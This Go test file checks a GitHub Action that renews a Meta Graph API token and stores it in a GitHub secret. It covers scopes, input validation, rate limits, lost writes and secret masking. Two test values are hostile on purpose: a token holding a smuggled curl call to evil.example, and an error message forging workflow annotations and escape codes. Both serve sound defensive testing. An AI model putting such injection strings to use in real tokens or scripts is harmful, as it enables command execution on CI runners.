package main

import (
	"fmt"
	"net/http"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/metamint/metamint/internal/clock"
	"github.com/metamint/metamint/internal/ghsecrets/ghsecretstest"
	"github.com/metamint/metamint/pkg/mint"
	"github.com/metamint/metamint/pkg/mint/minttest"
)

const (
	canaryGitHubToken = "ghs_CANARYgithubTOKENfeedface00000004"
	renewRepo         = "octo-org/deploy"
	renewSecretName   = "META_ADMIN_TOKEN"
	day               = 24 * time.Hour
)

// renewWorld is an emulator holding a system user token the secret keeps,
// and a GitHub stand-in holding that secret.
type renewWorld struct {
	*world
	gh    *ghsecretstest.Server
	old   string // the token in the secret
	scope ghsecretstest.Scope
}

// newRenewWorld issues a token expiring in life (0: never; negative:
// expired) and stores it in the secret named renewSecretName of scope:
// "repo", "env" (environment "prod/eu") or "org" (visibility selected,
// two repositories).
func newRenewWorld(t *testing.T, life time.Duration, scope string) *renewWorld {
	t.Helper()
	w := &renewWorld{world: newWorld(t), gh: ghsecretstest.NewServer()}
	t.Cleanup(w.gh.Close)
	w.gh.SetClock(ghsecretstest.Ticking(time.Now()))
	installed(w.world)
	spec := minttest.TokenSpec{UserID: w.systemUserID, AppID: w.appID, Scopes: []string{"ads_read", "business_management"}}
	if life != 0 {
		spec.ExpiresAt = w.srv.Now().Add(life)
	}
	w.old = w.srv.IssueToken(spec)
	w.gh.AddRepo(renewRepo)
	w.gh.AddRepo("octo-org/site")
	w.gh.AddEnvironment(renewRepo, "prod/eu")
	w.gh.AddOrg("octo-org")
	w.gh.AddToken(canaryGitHubToken, ghsecretstest.SecretsWrite, ghsecretstest.EnvironmentsWrite, ghsecretstest.OrganizationSecretsWrite)
	switch scope {
	case "repo":
		w.scope = ghsecretstest.RepoScope(renewRepo)
		w.gh.SetSecret(w.scope, renewSecretName, w.old, "")
	case "env":
		w.scope = ghsecretstest.EnvScope(renewRepo, "prod/eu")
		w.gh.SetSecret(w.scope, renewSecretName, w.old, "")
	case "org":
		w.scope = ghsecretstest.OrgScope("octo-org")
		w.gh.SetSecret(w.scope, renewSecretName, w.old, "selected", renewRepo, "octo-org/site")
	default:
		t.Fatalf("unknown scope %q", scope)
	}
	return w
}

// inputs returns the environment the runner gives a renewal step: every
// input action.yml declares, defaults included (runnerEnv), the values a
// renewal workflow sets, and the runner's variables the renewal reads.
// github-api-url is left to its default, ${{ github.api_url }}, which
// runnerEnv evaluates to GITHUB_API_URL as the runner does.
func (w *renewWorld) inputs(scope string) map[string]string {
	in := map[string]string{
		"INPUT_APP-ID":        w.appID,
		"INPUT_APP-SECRET":    w.appSecret,
		"INPUT_ACCESS-TOKEN":  w.old,
		"INPUT_GRAPH-API-URL": w.srv.URL,
		"INPUT_RENEW-SECRET":  renewSecretName,
		"INPUT_GITHUB-TOKEN":  canaryGitHubToken,
		"GITHUB_REPOSITORY":   renewRepo,
		"GITHUB_API_URL":      w.gh.URL,
	}
	switch scope {
	case "env":
		in["INPUT_RENEW-ENVIRONMENT"] = "prod/eu"
	case "org":
		in["INPUT_RENEW-ORG"] = "octo-org"
	}
	return runnerEnv(w.tb, in)
}

// normalize is normalize with the old token's proof too: the old token is
// the calling token of a renewal.
func (w *renewWorld) normalize(s string) string {
	s = strings.ReplaceAll(s, mint.AppSecretProof(w.appSecret, w.old), "<OLD_TOKEN_PROOF>")
	return normalize(w.world, s)
}

// secrets lists every secret of the world, the GitHub token included.
func (w *renewWorld) secrets() []string {
	return append(w.world.secrets(), canaryGitHubToken, "ghs_CANARYwrongTOKEN000000000005", "ghs_CANARYsecretsONLY00000000006", "ghs_CANARYreadONLY000000000000010", w.appID+"|"+w.appSecret)
}

// newTokens returns the tokens the emulator issued over HTTP by refreshing.
func (w *renewWorld) newTokens() []minttest.TokenState {
	var out []minttest.TokenState
	for _, tok := range w.srv.Tokens() {
		if tok.Value != w.adminToken && tok.Value != w.old {
			out = append(out, tok)
		}
	}
	return out
}

// stored returns the value of the secret, opened by the stand-in.
func (w *renewWorld) stored(t *testing.T) ghsecretstest.Secret {
	t.Helper()
	s, ok := w.gh.Secret(w.scope, renewSecretName)
	if !ok {
		t.Fatalf("the secret is gone")
	}
	return s
}

// checkRenewRun checks what every renewal run must show: the GitHub token
// masked with the other inputs before anything else, every new token masked
// before any other line, no secret anywhere in the clear, no state saved.
func checkRenewRun(t *testing.T, w *renewWorld, in map[string]string, r result) {
	t.Helper()
	checkMasksFirst(t, w.world, in, r)
	checkNoLeaks(t, w.secrets(), r)
	lines := strings.Split(r.stdout, "\n")
	n := 0
	for n < len(lines) && strings.HasPrefix(lines[n], "::add-mask::") {
		n++
	}
	if tok := in["INPUT_GITHUB-TOKEN"]; tok != "" && !slices.Contains(lines[:n], "::add-mask::"+tok) {
		t.Errorf("stdout does not start with an ::add-mask:: line for the GitHub token; it starts:\n%s", strings.Join(lines[:n+1], "\n"))
	}
	for _, tok := range w.newTokens() {
		i := slices.Index(lines, "::add-mask::"+tok.Value)
		if i < 0 {
			t.Errorf("a refreshed token was never masked")
			continue
		}
		if i > n {
			t.Errorf("line %d, before the new token's mask line, is %q", n+1, lines[n])
		}
	}
	if r.state != "" {
		t.Errorf("the renewal saved state %q; want none (the post step has nothing to revoke)", r.state)
	}
}

// TestBinaryRenew runs the built program as the runner runs a renewal step,
// with every input action.yml declares, against minttest and the GitHub
// stand-in.
func TestBinaryRenew(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	bin := buildBinary(t, dir)
	post := filepath.Join(dir, postName)

	for _, scope := range []string{"repo", "env", "org"} {
		t.Run("due token renewed into "+scope+" secret", func(t *testing.T) {
			t.Parallel()
			w := newRenewWorld(t, 10*day, scope)
			in := w.inputs(scope)
			m := runBinary(t, bin, in)
			r := m.result()
			if m.code != 0 || m.stderr != "" {
				t.Fatalf("exit code = %d, stderr %q; want 0 and nothing\nstdout:\n%s", m.code, m.stderr, m.stdout)
			}
			fresh := w.newTokens()
			if len(fresh) != 1 {
				t.Fatalf("refreshed tokens = %d; want 1", len(fresh))
			}
			got := w.stored(t)
			if got.Value != fresh[0].Value {
				t.Errorf("the secret does not hold the refreshed token")
			}
			if scope == "org" {
				if got.Visibility != "selected" || !slices.Equal(got.Repos, []string{renewRepo, "octo-org/site"}) {
					t.Errorf("org secret visibility %q, repos %v; want selected, both repositories kept", got.Visibility, got.Repos)
				}
			}
			if st, _ := w.srv.Token(w.old); st.Revoked {
				t.Errorf("the old token was revoked; jobs running now may hold it")
			}
			want := map[string]string{outRenewed: "true", outExpiresAt: fresh[0].ExpiresAt.UTC().Truncate(time.Second).Format(time.RFC3339)}
			if diff := cmp.Diff(want, m.outputs); diff != "" {
				t.Errorf("outputs (-want +got):\n%s", diff)
			}
			if !strings.Contains(m.summary, renewSecretName) || !strings.Contains(m.summary, "renewed") {
				t.Errorf("summary = %q; want what was renewed, where", m.summary)
			}
			checkRenewRun(t, w, in, r)
			golden(t, "binary_renew_"+scope+".stdout", w.normalize(m.stdout))
			golden(t, "binary_renew_"+scope+".output", w.normalize(m.output))
			golden(t, "binary_renew_"+scope+".summary", w.normalize(m.summary))

			// The post step has nothing to revoke.
			p := runBinary(t, post, postEnv(in, r))
			if p.code != 0 || !strings.Contains(p.stdout, "No token to revoke") {
				t.Errorf("post exit code = %d, stdout %q; want 0 and nothing to revoke", p.code, p.stdout)
			}
			if st, _ := w.srv.Token(fresh[0].Value); st.Revoked {
				t.Errorf("the post step revoked the renewed token")
			}
			checkNoLeaks(t, w.secrets(), p.result())
		})
	}

	tests := []struct {
		name   string
		life   time.Duration
		setup  func(w *renewWorld, in map[string]string)
		code   int
		stdout string // a fragment of stdout
		// what must hold after the run
		renewed, expiresAt string // outputs; "-" for no outputs
		graphCalls         int    // -1: any
		exchanges, writes  int
		secretIsNew        bool
		newRevoked         bool
		noGitHubCall       bool
	}{
		{name: "not due", life: 45 * day, stdout: "nothing to renew yet", renewed: "false", expiresAt: "old", graphCalls: 1},
		{name: "never expires", life: 0, stdout: "never expires: nothing to renew", renewed: "false", expiresAt: "", graphCalls: 1},
		{name: "expired", life: -day, code: 1, stdout: "Generate a new one in Business Settings", renewed: "-", graphCalls: 1},
		{name: "bad GitHub token", life: 10 * day, code: 1, renewed: "-",
			setup: func(w *renewWorld, in map[string]string) {
				in["INPUT_GITHUB-TOKEN"] = "ghs_CANARYwrongTOKEN000000000005"
			},
			stdout: `input github-token: reading the public key of the repository octo-org/deploy failed: GET /repos/{owner}/{repo}/actions/secrets/public-key: GitHub answered HTTP 401 "Bad credentials"; the token is not valid`},
		{name: "GitHub token without the environments permission", life: 10 * day, code: 1, renewed: "-",
			setup: func(w *renewWorld, in map[string]string) {
				w.gh.AddToken("ghs_CANARYsecretsONLY00000000006", ghsecretstest.SecretsWrite)
				in["INPUT_GITHUB-TOKEN"] = "ghs_CANARYsecretsONLY00000000006"
				in["INPUT_RENEW-ENVIRONMENT"] = "prod/eu"
			},
			stdout: `the "Secrets" and "Environments" repository permissions (write)`},
		{name: "renew-secret beside aws-secret-id", life: 10 * day, code: 1, renewed: "-", noGitHubCall: true,
			setup:  func(w *renewWorld, in map[string]string) { in["INPUT_AWS-SECRET-ID"] = "metamint/prod" },
			stdout: "input renew-secret is set, and so is aws-secret-id"},
		{name: "inputs checked before any call", life: 10 * day, code: 1, renewed: "-", noGitHubCall: true,
			setup: func(w *renewWorld, in map[string]string) {
				in["INPUT_GITHUB-TOKEN"] = ""
				in["INPUT_RENEW-WITHIN"] = "sixty"
				in["INPUT_RENEW-SECRET"] = "GITHUB_META"
			},
			stdout: `got "sixty"%0Ainputs renew-secret, renew-environment, renew-org: a secret name must not start with GITHUB_`},
		{name: "a token in renew-within", life: 10 * day, code: 1, renewed: "-", noGitHubCall: true,
			setup:  func(w *renewWorld, in map[string]string) { in["INPUT_RENEW-WITHIN"] = canaryWrongInput },
			stdout: "input renew-within must be a whole number of days from 1 to 365, got a value of 89 bytes that is not shown"},
		{name: "renew-org without renew-secret", life: 10 * day, code: 1, renewed: "-", noGitHubCall: true,
			setup: func(w *renewWorld, in map[string]string) {
				in["INPUT_RENEW-SECRET"] = ""
				in["INPUT_RENEW-ORG"] = "octo-org"
			},
			stdout: "inputs renew-org and github-token are set, but renew-secret is empty"},
		{name: "renew-environment names an environment without the secret: not created", life: 10 * day, code: 1, renewed: "-", graphCalls: 1,
			setup:  func(w *renewWorld, in map[string]string) { in["INPUT_RENEW-ENVIRONMENT"] = "prod/eu" },
			stdout: `the secret META_ADMIN_TOKEN of environment "prod/eu" in octo-org/deploy does not exist`},
		{name: "refused write", life: 10 * day, code: 1, renewed: "-", graphCalls: -1, exchanges: 1, writes: 1, newRevoked: true,
			setup: func(w *renewWorld, in map[string]string) {
				w.gh.FailNextWrite(http.StatusUnprocessableEntity, "Bad request")
			},
			stdout: "so nothing was stored. The old token still works until"},
		{name: "GitHub token that may read but not write secrets", life: 10 * day, code: 1, renewed: "-", graphCalls: -1, exchanges: 1, writes: 1, newRevoked: true,
			setup: func(w *renewWorld, in map[string]string) {
				w.gh.AddToken("ghs_CANARYreadONLY000000000000010", ghsecretstest.SecretsRead)
				in["INPUT_GITHUB-TOKEN"] = "ghs_CANARYreadONLY000000000000010"
			},
			stdout: `so nothing was stored; input github-token: the token lacks a permission: it needs the "Secrets" repository permission (write)`},
		{name: "refusal with a hostile message", life: 10 * day, code: 1, renewed: "-", graphCalls: -1, exchanges: 1, writes: 1, newRevoked: true,
			setup: func(w *renewWorld, in map[string]string) {
				w.gh.FailNextWrite(http.StatusForbidden, "no\n::warning::forged\x1b[31m ##[error]x")
			},
			stdout: `GitHub answered HTTP 403 "no\n::warning::f`},
		{name: "rate limit longer than the step", life: 10 * day, code: 1, renewed: "-", graphCalls: -1, exchanges: 1, writes: 1, newRevoked: true,
			setup: func(w *renewWorld, in map[string]string) {
				w.gh.RateLimitNext(ghsecretstest.RateLimit{Method: http.MethodPut, Status: http.StatusTooManyRequests,
					Message: "You have exceeded a secondary rate limit.", Header: http.Header{"Retry-After": {"3600"}}})
			},
			stdout: "input github-token: GitHub's rate limit for the token was exceeded, for longer than this run could wait; GitHub did not carry out the request: run again after "},
		{name: "lost write answer, sent once more", life: 10 * day, renewed: "true", expiresAt: "new", graphCalls: -1, exchanges: 1, writes: 2, secretIsNew: true,
			setup:  func(w *renewWorld, in map[string]string) { w.gh.DropNextWrites(1) },
			stdout: "GitHub's answer to the first write was lost"},
		{name: "lost answer to a stored write: not sent again", life: 10 * day, code: 1, renewed: "-", graphCalls: -1, exchanges: 1, writes: 1, secretIsNew: true,
			setup:  func(w *renewWorld, in map[string]string) { w.gh.LoseNextWrites(1) },
			stdout: "and it is not sent once more: the repository secret"},
		{name: "lost write answer twice", life: 10 * day, code: 1, renewed: "-", graphCalls: -1, exchanges: 1, writes: 2, secretIsNew: true,
			setup: func(w *renewWorld, in map[string]string) {
				w.gh.DropNextWrites(1)
				w.gh.LoseNextWrites(1)
			},
			stdout: "GitHub may have stored the new token, so it is kept, not revoked"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			scope := "repo"
			w := newRenewWorld(t, tt.life, scope)
			in := w.inputs(scope)
			if tt.setup != nil {
				tt.setup(w, in)
			}
			m := runBinary(t, bin, in)
			if m.code != tt.code {
				t.Fatalf("exit code = %d; want %d\nstdout:\n%s", m.code, tt.code, m.stdout)
			}
			if !strings.Contains(m.stdout, tt.stdout) {
				t.Errorf("stdout does not say %q:\n%s", tt.stdout, m.stdout)
			}
			if tt.code != 0 && !strings.Contains(m.stdout, "::error::") {
				t.Errorf("a failed run wrote no ::error:: annotation")
			}
			switch tt.renewed {
			case "-":
				if len(m.outputs) != 0 {
					t.Errorf("outputs = %v; want none", m.outputs)
				}
			default:
				want := map[string]string{outRenewed: tt.renewed, outExpiresAt: tt.expiresAt}
				switch tt.expiresAt {
				case "old":
					st, _ := w.srv.Token(w.old)
					want[outExpiresAt] = st.ExpiresAt.UTC().Truncate(time.Second).Format(time.RFC3339)
				case "new":
					want[outExpiresAt] = w.newTokens()[0].ExpiresAt.UTC().Truncate(time.Second).Format(time.RFC3339)
				}
				if diff := cmp.Diff(want, m.outputs); diff != "" {
					t.Errorf("outputs (-want +got):\n%s", diff)
				}
			}
			if tt.graphCalls >= 0 {
				if got := len(w.srv.Requests()); got != tt.graphCalls {
					t.Errorf("Graph calls = %d; want %d", got, tt.graphCalls)
				}
			}
			if got := w.count(minttest.EndpointExchange); got != tt.exchanges {
				t.Errorf("refresh calls = %d; want %d", got, tt.exchanges)
			}
			if got := w.gh.Writes(); got != tt.writes {
				t.Errorf("GitHub writes = %d; want %d", got, tt.writes)
			}
			if st, _ := w.srv.Token(w.old); st.Revoked {
				t.Errorf("the old token was revoked")
			}
			if got := len(w.gh.Requests()); tt.noGitHubCall && got != 0 {
				t.Errorf("GitHub calls = %d; want 0", got)
			}
			for _, sec := range w.secrets() {
				if strings.Contains(m.stderr, sec) {
					t.Errorf("stderr holds a secret: %q", m.stderr)
				}
			}
			if got := w.stored(t).Value; (got != w.old) != tt.secretIsNew {
				t.Errorf("the secret holds a new token: %v; want %v", got != w.old, tt.secretIsNew)
			}
			for _, tok := range w.newTokens() {
				if tok.Revoked != tt.newRevoked {
					t.Errorf("the new token revoked: %v; want %v", tok.Revoked, tt.newRevoked)
				}
			}
			for _, line := range strings.Split(m.stdout, "\n") {
				if strings.HasPrefix(line, "::warning::forged") || strings.ContainsRune(line, '\x1b') {
					t.Errorf("GitHub's text reached stdout raw: %q", line)
				}
			}
			checkRenewRun(t, w, in, m.result())
		})
	}
}

// TestPostInRenewalModeRevokesNothing: the inputs of a renewal step, not
// GITHUB_STATE, decide that its post step revokes nothing. A tampered state
// naming the token the renewal just wrote into the secret must not get it
// revoked: every job would then read a dead token from the secret.
func TestPostInRenewalModeRevokesNothing(t *testing.T) {
	t.Parallel()
	w := newRenewWorld(t, 10*day, "repo")
	in := w.inputs("repo")
	m := runStep(t, w.world, in, nil)
	if m.err != nil {
		t.Fatalf("main run() = %v\nstdout:\n%s", m.err, m.stdout)
	}
	renewed := w.stored(t).Value
	if renewed == w.old {
		t.Fatalf("the renewal stored no new token")
	}
	penv := postEnv(in, m)
	penv["STATE_"+stateToken] = renewed
	penv["STATE_"+stateAppID] = w.appID
	revokes := w.count(minttest.EndpointRevoke)
	p := runStep(t, w.world, penv, postArgs)
	if p.err != nil {
		t.Fatalf("post run() = %v; want nil", p.err)
	}
	if st, _ := w.srv.Token(renewed); st.Revoked || w.count(minttest.EndpointRevoke) != revokes {
		t.Errorf("the post step of a renewal revoked, or tried to revoke, the token in the secret\nstdout:\n%s", p.stdout)
	}
	if !strings.Contains(p.stdout, inRenewSecret) {
		t.Errorf("post stdout = %q; want it to say renewal mode (%s) revokes nothing", p.stdout, inRenewSecret)
	}
	checkNoLeaks(t, w.secrets(), p)
}

// TestRenewOrgBesideEnvironment: renew-org with renew-environment is one
// problem, said once, naming both inputs, before any call.
func TestRenewOrgBesideEnvironment(t *testing.T) {
	t.Parallel()
	w := newRenewWorld(t, 10*day, "org")
	in := w.inputs("org")
	in["INPUT_RENEW-ENVIRONMENT"] = "prod"
	r := runStep(t, w.world, in, nil)
	if r.err == nil {
		t.Fatalf("run() = nil; want an input error")
	}
	if got := r.err.Error(); got != "inputs renew-org and renew-environment are both set: a secret is an organization's or an environment's" {
		t.Errorf("run() = %q; want the one problem, said once", got)
	}
	if n := len(w.srv.Requests()); n != 0 {
		t.Errorf("%d Graph calls; want none", n)
	}
}

// TestRenewRefusesMintOnlyInputs: with renew-secret set, an input only the
// mint path reads has no effect. The runner passes every input action.yml
// declares, defaults included, so an input is set when its value differs
// from action.yml's default (read from action.yml here): such a value is
// refused, naming the input, before any call and any write, and an invalid
// boolean is refused as the mint path refuses it. Each default is accepted.
func TestRenewRefusesMintOnlyInputs(t *testing.T) {
	t.Parallel()
	declared := declaredInputs(t)
	for _, in := range append(slices.Clone(mintOnlyInputs), renewOnlyInputs...) {
		if def, ok := declared[in.name]; !ok || def != in.def {
			t.Errorf("the program takes %s's default to be %q; action.yml declares %q (declared: %v)", in.name, in.def, def, ok)
		}
	}
	noEffect := "has no effect with " + inRenewSecret
	tests := []struct {
		name  string
		input string
		value string
		want  string // a fragment of the error
	}{
		{name: "system-user-id", input: inSystemUserID, value: "100000000000001", want: noEffect},
		{name: "scopes", input: inScopes, value: "ads_read", want: noEffect},
		{name: "install-app true", input: inInstallApp, value: "true", want: noEffect},
		{name: "install-app yes", input: inInstallApp, value: "yes", want: `input install-app must be "true" or "false", got "yes"`},
		{name: "expiring-token false", input: inExpiringToken, value: "false", want: noEffect},
		{name: "expiring-token an invalid boolean", input: inExpiringToken, value: "no", want: `input expiring-token must be "true" or "false", got "no"`},
		{name: "skip-token-revoke true", input: inSkipTokenRevoke, value: "true", want: noEffect},
		{name: "skip-token-revoke an invalid boolean", input: inSkipTokenRevoke, value: "1", want: `input skip-token-revoke must be "true" or "false", got "1"`},
		{name: "allow-unlisted-scopes true", input: inAllowUnlistedScopes, value: "true", want: noEffect},
		{name: "allow-unlisted-scopes false", input: inAllowUnlistedScopes, value: "false", want: noEffect},
		{name: "allow-unlisted-scopes an invalid boolean", input: inAllowUnlistedScopes, value: "on", want: `input allow-unlisted-scopes must be "true" or "false", got "on"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			def, ok := declared[tt.input]
			if !ok || def == tt.value {
				t.Fatalf("action.yml declares %s with default %q (declared: %v); the case must set another value", tt.input, def, ok)
			}
			w := newRenewWorld(t, 10*day, "repo")
			in := w.inputs("repo")
			in[inputEnv(tt.input)] = tt.value
			r := runStep(t, w.world, in, nil)
			if r.err == nil {
				t.Fatalf("run() = nil with %s %q; want it refused\nstdout:\n%s", tt.input, tt.value, r.stdout)
			}
			if msg := r.err.Error(); !strings.Contains(msg, "input "+tt.input) || !strings.Contains(msg, tt.want) {
				t.Errorf("run() = %q; want it to name input %s and say %q", msg, tt.input, tt.want)
			}
			if n, g := len(w.srv.Requests()), len(w.gh.Requests()); n != 0 || g != 0 {
				t.Errorf("Graph calls = %d, GitHub calls = %d; want none: inputs are checked first", n, g)
			}
			if r.output != "" || r.state != "" || r.summary != "" {
				t.Errorf("output %q, state %q, summary %q; want nothing written", r.output, r.state, r.summary)
			}
			checkNoLeaks(t, w.secrets(), r)
		})
	}

	t.Run("several at once, each named", func(t *testing.T) {
		t.Parallel()
		w := newRenewWorld(t, 10*day, "repo")
		in := w.inputs("repo")
		in[inputEnv(inScopes)] = "ads_read"
		in[inputEnv(inSkipTokenRevoke)] = "true"
		in[inputEnv(inInstallApp)] = "yes"
		r := runStep(t, w.world, in, nil)
		want := `input install-app must be "true" or "false", got "yes"` + "\n" +
			"inputs scopes and skip-token-revoke are set, but they have no effect with renew-secret"
		if r.err == nil || !strings.HasPrefix(r.err.Error(), want) {
			t.Fatalf("run() = %v; want it to start %q", r.err, want)
		}
	})

	t.Run("defaults accepted", func(t *testing.T) {
		t.Parallel()
		w := newRenewWorld(t, 45*day, "repo")
		in := w.inputs("repo")
		for _, name := range []string{inSystemUserID, inScopes, inInstallApp, inExpiringToken, inSkipTokenRevoke, inAllowUnlistedScopes} {
			if got := in[inputEnv(name)]; got != declared[name] {
				t.Fatalf("runnerEnv passes %s %q; want action.yml's default %q", name, got, declared[name])
			}
		}
		if r := runStep(t, w.world, in, nil); r.err != nil {
			t.Fatalf("run() = %v with every default; want nil", r.err)
		}
	})

	// An empty boolean means its default on the mint path (parseBool); a
	// reusable workflow that passes an unset input of its own gives one.
	t.Run("empty booleans accepted", func(t *testing.T) {
		t.Parallel()
		w := newRenewWorld(t, 45*day, "repo")
		in := w.inputs("repo")
		for _, d := range mintOnlyInputs {
			if d.boolean {
				in[inputEnv(d.name)] = ""
			}
		}
		if r := runStep(t, w.world, in, nil); r.err != nil {
			t.Fatalf("run() = %v with every boolean empty; want nil", r.err)
		}
	})
}

// inPlaceFaults makes Graph extend the token in place: debug_token says
// the old token expires at before, the refresh answers the old token's own
// value, and debug_token then says it expires at after.
func inPlaceFaults(srv *minttest.Server, old, appID, userID string, scopes []string, before, after time.Time) {
	debug := func(exp time.Time) minttest.Fault {
		return minttest.Fault{Status: http.StatusOK, Body: fmt.Appendf(nil,
			`{"data":{"app_id":%q,"type":"SYSTEM_USER","application":"Metamint Test App","expires_at":%d,"is_valid":true,"issued_at":1,"scopes":["%s"],"user_id":%q}}`,
			appID, exp.Unix(), strings.Join(scopes, `","`), userID)}
	}
	srv.FailNext(minttest.EndpointDebugToken, debug(before))
	srv.FailNext(minttest.EndpointExchange, minttest.Fault{Status: http.StatusOK,
		Body: fmt.Appendf(nil, `{"access_token":%q,"token_type":"bearer","expires_in":5184000}`, old)})
	srv.FailNext(minttest.EndpointDebugToken, debug(after))
}

// TestRenewExtendedInPlace: Graph answers the refresh with the token the
// secret holds and a later expiry: it extended the token in place. The
// step writes it back and says so; it must not say the old token works
// only until its old expiry, which is no longer true.
func TestRenewExtendedInPlace(t *testing.T) {
	t.Parallel()
	w := newRenewWorld(t, 10*day, "repo")
	before := w.srv.Now().Add(10 * day).Truncate(time.Second)
	after := w.srv.Now().Add(60 * day).Truncate(time.Second)
	inPlaceFaults(w.srv, w.old, w.appID, w.systemUserID, []string{"ads_read", "business_management"}, before, after)
	in := w.inputs("repo")
	r := runStep(t, w.world, in, nil)
	if r.err != nil {
		t.Fatalf("run() = %v; want the token renewed\nstdout:\n%s", r.err, r.stdout)
	}
	if got := w.stored(t).Value; got != w.old {
		t.Errorf("the secret does not hold the extended token")
	}
	if st, _ := w.srv.Token(w.old); st.Revoked {
		t.Errorf("the extended token was revoked")
	}
	want := map[string]string{outRenewed: "true", outExpiresAt: after.UTC().Format(time.RFC3339)}
	if diff := cmp.Diff(want, r.outputs); diff != "" {
		t.Errorf("outputs (-want +got):\n%s", diff)
	}
	stale := before.UTC().Format(time.RFC3339)
	for what, text := range map[string]string{"log": r.stdout, "summary": r.summary} {
		if strings.Contains(text, stale) {
			t.Errorf("the %s names the old expiry %s, which Graph extended:\n%s", what, stale, text)
		}
		if !strings.Contains(text, "in place") {
			t.Errorf("the %s does not say Graph extended the token in place:\n%s", what, text)
		}
	}
	checkRenewRun(t, w, in, r)
}

// TestRenewRateLimitedWrite: GitHub answers the write with its secondary
// rate limit and retry-after 1. The step says it waits, waits once, on the
// step's clock (a fake here: counted, not timed), and sends the write
// again, which stores the new token.
func TestRenewRateLimitedWrite(t *testing.T) {
	t.Parallel()
	w := newRenewWorld(t, 10*day, "repo")
	in := w.inputs("repo")
	w.gh.RateLimitNext(ghsecretstest.RateLimit{Method: http.MethodPut, Status: http.StatusForbidden,
		Message: "You have exceeded a secondary rate limit.", Header: http.Header{"Retry-After": {"1"}}})
	fake := clock.NewFake(time.Now())
	r := runStep(t, w.world, in, nil, withClock(fake.Now), withSleep(fake.Sleep))
	if r.err != nil {
		t.Fatalf("run() = %v; want the write sent again after the wait\nstdout:\n%s", r.err, r.stdout)
	}
	if got := fake.Slept(); !slices.Equal(got, []time.Duration{time.Second}) {
		t.Errorf("waited %v on the step's clock; want [1s], the retry-after, once", got)
	}
	if want := "GitHub's rate limit answered PUT /repos/{owner}/{repo}/actions/secrets/{secret_name}: waiting 1s before sending it again."; !strings.Contains(r.stdout, want) {
		t.Errorf("stdout does not say %q:\n%s", want, r.stdout)
	}
	fresh := w.newTokens()
	if len(fresh) != 1 || w.stored(t).Value != fresh[0].Value || w.gh.Writes() != 2 {
		t.Errorf("refreshed %d tokens, %d writes; want the one new token stored by the second write", len(fresh), w.gh.Writes())
	}
	if r.outputs[outRenewed] != "true" {
		t.Errorf("outputs = %v; want renewed true", r.outputs)
	}
	checkRenewRun(t, w, in, r)
}

// TestRenewRefusesNonBearerToken: a renewal writes the refreshed token into
// a GitHub secret, which workflows put in scripts too
// (run: curl -H "Authorization: Bearer ${{ secrets.META_TOKEN }}"), where
// the runner substitutes it before the shell reads it. A refresh that
// answers a token without a Bearer token's syntax (RFC 6750 b64token) is
// refused before the write: the secret keeps the old token, and the new
// one is revoked.
func TestRenewRefusesNonBearerToken(t *testing.T) {
	t.Parallel()
	const hostile = "EAA$(curl${IFS}evil.example)"
	w := newRenewWorld(t, 10*day, "repo")
	in := w.inputs("repo")
	w.srv.MintNextAs(hostile)
	r := runStep(t, w.world, in, nil)
	if r.err == nil || !strings.Contains(r.err.Error(), "Bearer token") {
		t.Fatalf("run() = %v; want the refreshed token refused\nstdout:\n%s", r.err, r.stdout)
	}
	if got := w.stored(t).Value; got != w.old {
		t.Errorf("the secret holds %q; want the old token kept", got)
	}
	if st, ok := w.srv.Token(hostile); !ok || !st.Revoked {
		t.Errorf("refreshed token = %+v, %v; want it revoked", st, ok)
	}
	if strings.Contains(r.err.Error(), hostile) {
		t.Errorf("run() = %q; want the token not quoted", r.err)
	}
	if len(r.outputs) != 0 {
		t.Errorf("outputs = %v; want none", keys(r.outputs))
	}
	checkRenewRun(t, w, in, r)
}
